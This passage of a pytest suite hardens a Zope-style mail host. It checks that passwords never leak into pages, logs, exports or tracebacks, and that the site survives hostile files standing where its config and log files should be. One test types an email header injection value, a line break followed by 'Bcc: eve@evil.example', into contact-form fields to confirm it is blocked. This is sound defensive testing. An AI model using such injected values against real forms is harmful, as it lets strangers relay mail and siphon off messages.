    for line_break in BREAKS.values():
        for field, honest in (("subject", "Hi"), ("mto", "ann@example.org"), ("mfrom", "zoe@example.org")):
            typed = f"{honest}{line_break}Bcc: eve@evil.example"
            sent += site.type_into("attacked/contact", **{field: typed})[0] == 200
    with RelayServer(login=("relay-login", PASSWORD)) as relay:
        site.daemon.configure(SMTP_PORT=relay.port)
        with site.daemon:
            site.daemon.wait_until(lambda: not files_in(site.spool))
    assert len(relay.accepted) == sent >= 2 * len(ENDS)
    assert {mail.sender for mail in relay.accepted} == {"zoe@example.org"}
    assert set(relay.recipients()) == {"ann@example.org", "bob@example.org"}
    for mail in relay.accepted:
        assert re.search(rb"\r(?!\n)|(?<!\r)\n", mail.content) is None
        assert not re.search(rb"(?im)^bcc", mail.content.partition(b"\r\n\r\n")[0])
    assert PASSWORD not in site.daemon.read_log()
    site.log.write_text(LOG_TEXT)


# -- secrets --


def test_the_password_is_on_no_page_in_no_log_and_in_no_export(site):
    seen = []
    for host in ("MailHost", "Hostile"):
        pages = [
            "manage",
            "manage_main",
            "manage_log",
            "manage_workspace",
            "manage_access",
            "manage_owner",
            "manage_interfaces",
            "manage_menu",
            "password",
            "getLog",
            "manage_makeChanges",
            "manage_FTPget",
            "document_src",
            "index_html",
            "",
        ]
        seen += [site.ask("GET", f"/{host}/{page}", user="admin")[2] for page in pages]
    seen += [
        site.ask("GET", path, user="admin")[2]
        for path in (
            "/manage_main",
            "/manage_UndoForm",
            "/fails",
            "/Control_Panel/manage_main",
            "/manage_importExportForm",
            "/error_log/manage_main",
            "/chooses?key=no",
        )
    ]
    export = site.ask("GET", "/manage_exportObject?id=MailHost&download:int=1", user="admin")
    assert export[0] == 200 and "config_path" in export[2]
    seen.append(export[2])
    broken = [
        (site.daemon.config, 'MAILDROP_PASSWORD="' + PASSWORD),
        (site.daemon.config, f"MAILDROP_PASSWORD={PASSWORD}"),
        (site.daemon.config, f'MAILDROP_PASSWORT="{PASSWORD}"\nSMTP_PORT=x'),
        (site.daemon.config, f'"{PASSWORD}"'),
    ]
    for path, line in broken:
        with replaced(
            path, lambda path, line=line: path.write_text(path.with_name("aside").read_text() + f"\n{line}\n")
        ):
            reply = site.ask("GET", "/MailHost/manage_main", user="admin")
            assert "cannot be used" in reply[2]
            seen += [
                reply[2],
                site.type_into("MailHost/manage_makeChanges", "admin", title="Test", path_key="config-path-1")[2],
            ]
    seen += [path.read_text("utf-8", "replace") for path in (site.directory / "var" / "log").iterdir()]
    assert len(seen) > 40
    assert [text[:200] for text in seen for secret in SECRETS if secret in text] == []


def test_no_process_shows_the_password(site):
    shown = [path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline")]
    assert not [line for line in shown if b"Geheim" in line]


def test_neither_repr_nor_pickle_nor_the_variables_of_a_traceback_have_the_password(tmp_path):
    host = make_host(tmp_path, MAILDROP_LOGIN="relay-login", MAILDROP_PASSWORD=PASSWORD)
    settings = host._settings()
    assert settings.password == PASSWORD
    told = [repr(host), str(host), repr(settings), str(settings), repr(MODULE._cache), repr(pickle.dumps(host))]
    (tmp_path / "config").write_text(f'MAILDROP_PASSWORD="{PASSWORD}"\nSMTP_HOST="x y"\n')
    for call in (
        lambda: maildrop_settings.load(tmp_path / "config"),
        lambda: host._settings() and host._send("<", "a@b", b"x"),
    ):
        with pytest.raises((ValueError, RuntimeError)) as caught:
            call()
        shown = traceback.TracebackException.from_exception(caught.value, capture_locals=True)
        told.append("".join(shown.format()))
    assert "x y" not in told[0] and "Traceback" in told[-1]
    assert [text for text in told if "Geheim" in text] == []


# -- what stands in the way --


@contextmanager
def replaced(path, make):
    """Something else in a file's place, which is as it was afterwards."""
    aside = path.with_name("aside")
    path.rename(aside)
    try:
        make(path)
        yield
    finally:
        if path.is_dir() and not path.is_symlink():
            path.rmdir()
        else:
            path.unlink(missing_ok=True)
        aside.rename(path)


def make_large(path):
    with path.open("wb") as stream:
        stream.truncate(100 * 1024 * 1024)


OBSTACLES = {
    "nothing": lambda path: None,
    "a directory": Path.mkdir,
    "a FIFO": os.mkfifo,
    "a link to itself": lambda path: path.symlink_to(path),
    "a link to a device": lambda path: path.symlink_to("/dev/zero"),
    "100 MB": make_large,
}


@pytest.mark.parametrize("make", OBSTACLES.values(), ids=OBSTACLES.keys())
def test_a_page_comes_whatever_is_in_the_config_files_place(site, make):
    with replaced(site.daemon.config, make):
        status, _, text = site.ask("GET", "/MailHost/manage_main", user="admin")
        assert (status, "cannot be used" in text) == (200, True)
        assert site.type_into("attacked/contact")[0] == 200
    assert len(read_mails(site.spool)) == 1


@pytest.mark.parametrize("make", OBSTACLES.values(), ids=OBSTACLES.keys())
def test_a_page_comes_whatever_is_in_the_log_files_place(site, make):
    with replaced(site.log, make):
        assert site.ask("GET", "/MailHost/manage_log", user="admin")[0] == 200


@pytest.mark.parametrize(
    "most",
    ["1e9", "-1", "0", "99999999999999999999", "x", "1" * 5000, "\0", "\u0661"],
    ids=lambda most: ascii(most)[:30],
)
def test_any_amount_may_be_asked_of_the_log(site, most):
    status, _, text = site.type_into("reads_log", "admin", most=most)
    assert status in (200, 204, 500) and "MemoryError" not in text
    assert site.ask("GET", "/MailHost/manage_log", user="admin")[0] == 200
